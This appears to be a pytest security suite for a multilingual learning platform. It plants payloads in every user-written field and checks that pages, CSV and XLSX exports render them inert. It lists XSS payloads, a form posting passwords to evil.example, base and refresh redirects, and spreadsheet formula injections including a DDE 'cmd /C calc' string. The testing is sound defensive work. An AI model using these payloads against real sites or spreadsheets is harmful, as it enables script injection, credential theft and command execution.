"""Whatever people write stays text: in pages of every role, in the words of a module, in files."""

import csv
import re
from datetime import date, timedelta
from io import BytesIO, StringIO
from zipfile import ZipFile

import msgspec
import pytest
from lxml import etree
from sqlalchemy import select

from lms.accounts import services as accounts
from lms.accounts.models import Passkey, PasswordRequest, Role
from lms.api.services import make_token
from lms.authoring.services import drafts, reviews, uploads
from lms.catalogue.documents import ModuleDocument
from lms.catalogue.models import Draft, ModuleAuthor
from lms.certificates.models import Certificate
from lms.certificates.services import ask_for_correction
from lms.core import clock, headers
from lms.core.extensions import db
from lms.enrolments.corrections import Facts, state_facts
from lms.enrolments.models import Enrolment, EnrolmentState
from lms.enrolments.queries import study_from
from lms.evaluations.models import FollowUpReply
from lms.evaluations.occasions import Occasion
from lms.gatherings.models import GatheringImport
from lms.gatherings.values import FollowUp
from lms.grading import services as grading
from lms.grading.key_queries import key_desk_for_update
from lms.grading.models import PassDecision
from lms.institutions.services import close_institution, keep_upload, propose_institution
from lms.invitations import services as invitations
from lms.nominations.models import NominationList
from lms.papers.services import save_typed
from lms.people.merging import merge_people
from lms.people.models import Sex, WorkplaceState
from lms.people.queries import current_workplace
from lms.people.services import decide_workplaces
from lms.quality.models import Kind, LikelyPair
from lms.quality.queries import asides_of
from lms.quality.services import set_aside
from lms.quizzes import services as quizzes
from lms.reporting.reports import Audience
from lms.reporting.services import save_table
from lms.reporting.stretches import Stretch
from tests.authoring.documents import sound_pack
from tests.grading.essays import BEST, essay, essays_in, hand_in_essays, mark, module_with
from tests.security.routes import routes
from tests.security.world import World
from tests.support.browser import shape
from tests.support.csrf import token_of
from tests.support.factories import make_account, make_certificate, make_edition, make_enrolment, make_institution
from tests.support.factories.attempts import READY, hand_in, make_attempt
from tests.support.factories.framework import make_indicator_evidence
from tests.support.factories.gatherings import LINE, make_event
from tests.support.factories.invitations import make_code, make_invitation
from tests.support.factories.papers import make_batch, sheets
from tests.support.factories.releases import make_frozen_report, make_report_draft, release_table
from tests.support.packs import small_module

PAYLOADS = (
    "<script>alert(7)</script>",
    '"><script>alert(7)</script>',
    "'><img src=x onerror=alert(7)>",
    "<svg/onload=alert(7)>",
    '" onmouseover="alert(7)" x="',
    "' onfocus='alert(7)' autofocus='",
    "</textarea><script>alert(7)</script>",
    "</title><script>alert(7)</script>",
    "</script><script>alert(7)</script>",
    "<!--<script>alert(7)</script>-->",
    "javascript:alert(7)",
    "<iframe srcdoc='<script>alert(7)</script>'></iframe>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><input name=password>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<math><mtext><img src=x onerror=alert(7)></mtext></math>",
    "[x](javascript:alert(7)) ![x](https://evil.example/p.gif)",
    "{{ 7*7 }}{% raw %}%(x)s ${7*7} {0}",
    "<a href='data:text/html,<script>alert(7)</script>'>x</a>",
    "&lt;script&gt;alert(7)&lt;/script&gt;",
    "<object data='https://evil.example/x.swf'></object>",
)
FORBIDDEN = {"iframe", "object", "embed", "base", "style", "math", "applet", "frame"}


class Pen:
    """Writes one payload after the other, from a place that differs between runs."""

    def __init__(self, start):
        self.place = start

    def word(self, text=""):
        self.place += 1
        return f"{PAYLOADS[self.place % len(PAYLOADS)]} {text}".strip()

    def everywhere(self, value, key=""):
        """The same structure with a payload in every text that people write."""
        if isinstance(value, dict):
            return {name: self.everywhere(inner, name) for name, inner in value.items()}
        if isinstance(value, list):
            return [self.everywhere(item, key) for item in value]
        return self.word(value) if key in {"ky", "ru", "en", "title", "summary", "body"} and value else value


def document_of(pen, **changes):
    raw = sound_pack(**changes)
    kept = raw.pop("states")
    return msgspec.convert({**pen.everywhere(raw), "states": kept}, ModuleDocument)


@pytest.fixture(params=[0, 7, 15])
def evil(session, request):
    """A world in which everybody who may write anything has written an attack."""
    pen, world = Pen(request.param), World()
    court = make_institution(pen.word("соту"))
    people = {
        "learner": make_account(name=pen.word("Окуучу"), institution=court),
        "holder": make_account(name=pen.word("Ээси"), institution=court),
        "author": make_account(Role.TRAINER, name=pen.word("Автор")),
        "gender reviewer": make_account(Role.GENDER_REVIEWER, name=pen.word("Рецензент")),
        "focal point": make_account(Role.FOCAL_POINT, place=court, name=pen.word("Байланышчы")),
        "coordinator": make_account(Role.COORDINATOR, name=pen.word("Координатор")),
        "administrator": make_account(Role.ADMINISTRATOR, name=pen.word("Башкаруучу")),
        "visitor": None,
    }
    world.strangers = people
    edition = make_edition(document_of(pen, slug="desk", code="M95"))
    _study(world, people, edition)
    _office(world, people, pen, court)
    _studio(world, people, pen, edition)
    _newer_rooms(world, people, pen, court)
    _essays(world, people, pen)
    _files_and_paper(world, people, pen, edition)
    _quality(world, people, pen)
    db.session.commit()
    return world


def _study(world, people, edition):
    enrolment = make_enrolment(edition, people["learner"].person, done=READY)
    hand_in(make_attempt(enrolment, seed=3), 4)
    attempt = make_attempt(enrolment, seed=4)
    unplaced = make_enrolment(edition, make_account(name=PAYLOADS[1]).person)
    certificate = make_certificate(people["holder"], edition)
    certificate.name_printed, certificate.is_name_public = "<script>alert(7)</script>", True
    world.values |= {
        "slug": "desk", "lesson": "first", "test": "quiz", "attempt_id": attempt.id, "enrolment_id": enrolment.id,
        "certificate_id": certificate.id, "code": certificate.code, "sha256": "0" * 64, "name": "flag.png",
        "account_id": people["learner"].id, "unplaced_id": unplaced.id,
    }  # fmt: skip


def _office(world, people, pen, court):
    learner, admin = people["learner"], people["administrator"]
    about = {"type_code": "court", "region_code": "KG-T", "by": learner.person_id, "at": clock.now()}
    typed = propose_institution(pen.word("соту"), **about)
    accounts.suspend(people["holder"], by=admin, reason=pen.word("Себеп"), at=clock.now())
    accounts.restore(people["holder"], by=admin, reason=pen.word("Себеп"), at=clock.now())
    author = people["author"]
    accounts.give_role(learner, Role.TRAINER, by=admin, reason=pen.word("Себеп"), at=clock.now())
    db.session.flush()
    accounts.end_role(learner.grants[-1], by=admin, reason=pen.word("Себеп"), at=clock.now())
    workplace = current_workplace(people["holder"].person_id)
    decide_workplaces([workplace], WorkplaceState.REFUSED, by=admin.id, at=clock.now(), reason=pen.word("Себеп"))
    accounts.ask_for_code(learner, at=clock.now())
    asked = db.session.scalars(select(PasswordRequest)).one()
    accounts.decline_request(asked, by=admin.id, reason=pen.word("Себеп"), at=clock.now())
    world.values |= {
        "request_id": asked.id,
        "workplace_id": workplace.id,
        "institution_id": court.id, "typed_id": typed.id, "author_id": author.id, "grant_id": author.grants[0].id,
        "export_id": court.id, "job_id": court.id, "secret": "x", "contact_secret": "x",
    }  # fmt: skip


def _studio(world, people, pen, edition):
    author = people["author"]
    db.session.add(ModuleAuthor(module_id=edition.module_id, account_id=author.id))
    draft = db.session.get_one(Draft, edition.module_id)
    drafts.save(draft, document_of(pen, slug="desk", code="M95"), by=author.id, what=pen.word("x"), at=clock.now())
    review = reviews.request_review(draft, change="content", by=author.id, at=clock.now())
    db.session.flush()
    comment = reviews.add_comment(
        review, place="lesson:first", category="gender", must_change=True, text=pen.word("Сөз"),
        by=people["gender reviewer"].id, at=clock.now(),
    )  # fmt: skip
    world.values |= {"review_id": review.id, "comment_id": comment.id, "kind": "gender"}


def _newer_rooms(world, people, pen, court):
    """Requests for a correction, passkeys, lists of nominations, invitations, changes of the directory."""
    focal, coordinator, at = people["focal point"], people["coordinator"], clock.now()
    certificate = db.session.get_one(Certificate, world.values["certificate_id"])
    correction = ask_for_correction(
        certificate, name="Ээсинов Кубат", languages="ky+en", why=pen.word("Тамга"), evidence=pen.word("Паспорт"),
        by=people["holder"].id, at=at,
    )  # fmt: skip
    named = {"line": 1, "name": pen.word("Айгүл"), "email": "a@example.org", "phone": "", "position": pen.word("иш")}
    draft = NominationList(
        account_id=focal.id, institution_id=court.id, language="ky", rows=[named], created_at=at,
        expires_at=at + timedelta(days=1),
    )  # fmt: skip
    passkey = Passkey(
        account_id=people["learner"].id, credential_id="AA", public_key="AA", sign_count=0, name=pen.word("Телефон"),
        created_at=at,
    )  # fmt: skip
    db.session.add_all([draft, passkey])
    today = clock.local_day(at)
    call = invitations.plan_call("desk", starts_on=today, ends_on=today, women_share=40, by=coordinator.id, at=at)
    invitations.add_place(call, 9, institution_id=court.id, region_code=None, by=coordinator.id, at=at)
    invitations.open_call(call, by=coordinator.id, at=at)
    invitation = make_invitation(pen.word("Чакырылган"), institution=court, by=focal)
    decided = {"reason": pen.word("Закон"), "by": coordinator.id, "at": at}
    change = close_institution(court, on=date(2199, 12, 31), **decided)
    upload = keep_upload([], by=coordinator.id, at=at)
    first = make_frozen_report(coordinator, text=pen.word("Отчёт"))
    report = make_frozen_report(coordinator, text=pen.word("Себеп"), replaces=first)
    report_draft = make_report_draft(coordinator, date(2025, 4, 1), date(2025, 6, 30), text=pen.word("Сөз"))
    token, _secret = make_token(coordinator.id, pen.word("Китепче"), Audience.TEAM, lasts=timedelta(days=30), at=at)
    saved = save_table(coordinator.id, pen.word("Таблица"), {"rows": "sex"}, Stretch.THIS_YEAR, at=at)
    event = make_event(coordinator, title=pen.word("Диалог"), follow_ups=(FollowUp(pen.word("Иш")),))
    events = GatheringImport(made_by_id=coordinator.id, made_at=at, entries=[{"line": 2, "values": LINE | {
        name: pen.word("Тилке") for name in ("title", "kind", "held_on")}}])  # fmt: skip
    db.session.add(events)
    db.session.flush()
    example = FollowUpReply(
        module_id=certificate.enrolment.module_id, occasion=Occasion.THREE_MONTHS, month="2026-10", outcome="used",
        example=pen.word("Май айында"),
    )  # fmt: skip
    db.session.add(example)
    db.session.flush()
    world.values |= {
        "event_id": event.id, "list_of_events_id": events.id,
        "evidence_id": make_indicator_evidence(coordinator).id,
        "reply_id": example.id,
        "token_id": token.id, "table_id": saved.id,
        "report_id": report.id, "draft_id": report_draft.id,
        "release_id": release_table(report, coordinator).id,
        "correction_id": correction.id, "passkey_id": passkey.id, "list_id": draft.id, "call_id": call.id,
        "invitation_id": invitation.id, "invitation_code": make_code(invitation), "change_id": change.id,
        "upload_id": upload.id, "place_id": court.id,
    }  # fmt: skip


def _essays(world, people, pen):
    """An essay, its task and an opinion on it, which its author may still change."""
    raw = [{**pen.everywhere(essay(key)), "key": key} for key in ("e1", "e2")]
    edition = make_edition(module_with(*raw, slug="essays", code="M96"))
    author = people["author"]
    db.session.add(ModuleAuthor(module_id=edition.module_id, account_id=author.id))
    db.session.flush()
    attempt = hand_in_essays(edition, people["learner"].person, text=pen.word("Пикир"))
    mark(essays_in(attempt)[0], author, BEST, comment=pen.word("Жакшы"))
    desk = key_desk_for_update("essays", "a1", author)
    correction = grading.correct_key(
        desk, desk.question, [edition.id], is_given=True, reason=pen.word("Ката"), by=author.id, at=clock.now()
    )
    decision = PassDecision(enrolment_id=attempt.enrolment_id, correction_id=correction.id, opened_at=clock.now())
    db.session.add(decision)
    db.session.flush()
    world.values |= {"essay_id": essays_in(attempt)[0].id, "decision_id": decision.id}


def _files_and_paper(world, people, pen, edition):
    """More time with a reason, a file of questions that was sent, a sheet that was typed in."""
    author, enrolment = people["author"], db.session.get_one(Enrolment, world.values["enrolment_id"])
    exception = quizzes.give_exception(
        study_from(enrolment), quizzes.Given(tries=1), reason=pen.word("Линия"), by=people["coordinator"].id,
        at=clock.now(),
    )  # fmt: skip
    words = pen.word("Ким").replace("{", "").replace("}", "")
    facts = {"form": "gift", "language": "ky", "name": pen.word("bank.gift"), "by": author.id, "at": clock.now()}
    sent = uploads.keep(edition.module_id, f"{words}? {{=Сот ~Прокурор ~Милиция}}".encode(), **facts)
    batch = make_batch(edition, author)
    one = sheets(batch)[0]
    save_typed(one, {}, base=0, by=author.id, at=clock.now())
    db.session.flush()
    world.values |= {
        "exception_id": exception.id, "question_file_id": sent.id, "batch_id": batch.id, "sheet_code": one.sheet.code,
    }  # fmt: skip


def _quality(world, people, pen):
    """Reasons of what was stated afterwards and of what was set aside; a completion without its parts."""
    person, about = people["learner"].person, {"by": people["coordinator"].id, "at": clock.now()}
    person.birth_year, person.sex = None, Sex.NOT_STATED
    set_aside(Kind.AGE, person.id, reason=pen.word("Айтпайт"), **about)
    batch = state_facts(person, Facts(sex=Sex.FEMALE), also_recorded=True, reason=pen.word("Тизме"), **about)
    completed = make_enrolment(make_edition(small_module("parts", "M97")), make_account(name=PAYLOADS[0]).person)
    completed.state, completed.completed_at = EnrolmentState.COMPLETED, about["at"]
    completed.completed_on = clock.local_day(about["at"])
    twins = sorted((make_account(name=PAYLOADS[0]).person for _number in range(2)), key=lambda one: one.id)
    pair = LikelyPair(person_id=twins[0].id, other_id=twins[1].id, score=90, reasons=["name"], found_at=about["at"])
    db.session.add(pair)
    other = make_account(name=PAYLOADS[1]).person
    merge = merge_people(other, twins[0], reason=pen.word("Бир адам"), **about)
    world.values |= {
        "twin_ids": [one.id for one in twins], "merge_id": merge.id,
        "person_id": person.id, "aside_id": asides_of(person.id)[0].id, "facts_batch_id": batch,
        "partless_id": completed.id,
    }  # fmt: skip


def dangers(page):
    """What a browser would run, fetch or follow and we did not write."""
    found = []
    for element in page.tree.getroot().iter(etree.Element):
        tag = etree.QName(element).localname
        if tag in FORBIDDEN:
            found.append(f"<{tag}>")
        if tag == "script" and "alert(7)" in (element.text or "") and element.get("type") != "application/json":
            found.append("a script of theirs")
        if tag == "meta" and "evil" in (element.get("content") or ""):
            found.append("a refresh")
        for name, value in element.attrib.items():
            if name.startswith("on") or name in {"srcdoc", "style"}:
                found.append(f"{tag}[{name}]")
            if name in ADDRESSES and leads_out(value):
                found.append(f"{tag}[{name}]: {value}")
    return found


ADDRESSES = {"href", "src", "action", "formaction", "data", "poster"}


def leads_out(address):
    """Whether it runs something or goes where nobody of us has sent it."""
    plain = re.sub(r"[\s\x00-\x1f]", "", address).lower()
    if plain.startswith(("javascript:", "vbscript:", "data:")):
        return True
    return plain.startswith(("//", "http:", "https:")) and "evil" in plain


ROLES = ["learner", "holder", "author", "gender reviewer", "focal point", "coordinator", "administrator", "visitor"]


def test_nothing_that_people_write_is_more_than_text(app, evil, browser):
    """Each role reads each page it may, in one of the languages; the browser of the tests looks at each besides."""
    read, seen = 0, set()
    for number, role in enumerate(ROLES):
        own = browser(evil.strangers[role])
        language = ("ky", "ru", "en")[number % 3]
        for route in routes(app, evil, "GET"):
            page = own.visit(route.address.replace("/en", f"/{language}", 1))
            page.response.close()
            if not page.html:
                continue
            assert page.response.headers["Content-Security-Policy"] == headers.POLICY
            if (known := shape(page.html)) not in seen:
                assert dangers(page) == [], (role, page.path)
                seen.add(known)
            read += "alert(7)" in page.html
    assert read > 60, "the attacks were hardly on any page: nothing was tried"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_typed_wrongly_comes_back_as_text(browser, session, payload):
    """Pages with errors show what was typed; so do searches and pages that were not found."""
    coordinator = browser(make_account(Role.COORDINATOR, Role.ADMINISTRATOR))
    learner, visitor = browser(make_account()), browser()
    form = {"csrf_token": token_of(learner), "ky": payload, "ru": payload, "en": payload, "birth_year": payload}
    pages = [
        learner.post("/en/profile/name", form, follow=False),
        learner.post("/en/profile/about", form, follow=False),
        learner.post("/en/profile/contact", {**form, "login": payload}, follow=False),
        visitor.post("/en/sign-in", {"csrf_token": token_of(visitor), "login": payload, "password": ""}, follow=False),
        visitor.post("/en/profile/name", form, follow=False),
        visitor.visit("/verify", query={"code": payload}),
        visitor.visit("/en/sign-in", query={"next": f"/en/{payload}"}),
        visitor.visit("/en/modules", query={"profession": payload, "q": payload}),
        visitor.visit("/en/nothing/" + payload.replace("/", "").replace("%", "").replace("?", "").replace("#", "")),
        coordinator.visit("/en/admin/people", query={"who": payload}),
        coordinator.visit("/en/admin/institutions", query={"name": payload, "region": payload}),
        coordinator.visit("/en/admin/log", query={"who": payload, "act": payload, "from": payload}),
        coordinator.visit("/en/reports", query={"from": payload, "region": payload, "institution": payload}),
        coordinator.visit("/en/reports/institutions", query={"year": payload, "sort": payload}),
    ]

    assert {page.path: dangers(page) for page in pages if page.tree is not None and dangers(page)} == {}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_text_of_a_lesson_is_cleaned_in_the_preview_and_on_the_page(browser, session, payload):
    raw = sound_pack()
    for text in raw["lessons"][0]["texts"].values():
        text["body"] = f"## {payload}\n\n{payload}\n\n- {payload}\n\n> {payload}\n\n| a |\n|---|\n| {payload} |\n"
    edition = make_edition(msgspec.convert(raw, ModuleDocument))
    learner = make_account()
    make_enrolment(edition, learner.person)

    page = browser(learner).visit("/en/modules/practice/lessons/first")

    assert page.status == 200
    assert dangers(page) == []
    assert not page.all("//main//img[not(starts-with(@src,'/'))]")
    assert not page.all("//main//a[starts-with(translate(@href,'JAVSCRIPT','javscript'),'javascript')]")


# ── Files ─────────────────────────────────────────────────────────────────────────────────────────────────────

FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK('https://evil.example')", "\t=1", "=cmd|' /C calc'!A0")


@pytest.fixture
def formulas(session):
    """Modules and institutions called like formulas, with a learner in each."""
    for number, formula in enumerate(FORMULAS):
        raw = sound_pack(slug=f"m{number}", code=f"M{number + 60}")
        raw["title"] = dict.fromkeys(("ky", "ru", "en"), formula)
        edition = make_edition(msgspec.convert(raw, ModuleDocument))
        place = make_institution(formula)
        make_enrolment(edition, make_account(name=f"{formula} Ысым", institution=place).person, done=(*READY, "final"))
    return place


@pytest.mark.parametrize(("slug", "query"), [("participation", {"rows": "module"}), ("a", {}), ("b", {}), ("long", {})])
def test_a_name_like_a_formula_is_text_in_every_file(browser, formulas, slug, query):
    visitor = browser(make_account(Role.COORDINATOR))
    query = {**query, "institution": str(formulas.id)} if slug == "a" else query

    table = visitor.visit(f"/en/reports/files/{slug}.csv", query=query).response
    rows = list(csv.reader(StringIO(table.get_data(as_text=True).removeprefix("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell[:1] in "=+@\t\r" and cell] == []
    assert [cell for cell in cells if re.match(r"-(?![\d.]+$)", cell)] == []
    if query.get("rows") == "module":
        assert any("=1+1" in cell for cell in cells)

    book = ZipFile(BytesIO(visitor.visit(f"/en/reports/files/{slug}.xlsx", query=query).response.data))
    assert not [n for n in book.namelist() if "externalLink" in n or "vba" in n.lower() or "hyperlink" in n.lower()]
    sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets
    assert not [sheet for sheet in sheets if "<f>" in sheet or "<f " in sheet or "<hyperlink" in sheet]


def test_a_file_is_saved_and_never_shown(browser, formulas):
    visitor = browser(make_account(Role.COORDINATOR))

    for ending in ("csv", "xlsx", "json"):
        answer = visitor.visit(f"/en/reports/files/a.{ending}").response
        answer.close()
        head = answer.headers
        assert head["Content-Disposition"].startswith("attachment")
        assert head["X-Content-Type-Options"] == "nosniff"
        assert head["Cache-Control"] == "no-store"
    own = visitor.visit("/en/profile/data").response.headers
    assert own["Content-Disposition"].startswith("attachment")
    assert own["Cache-Control"] == "no-store"
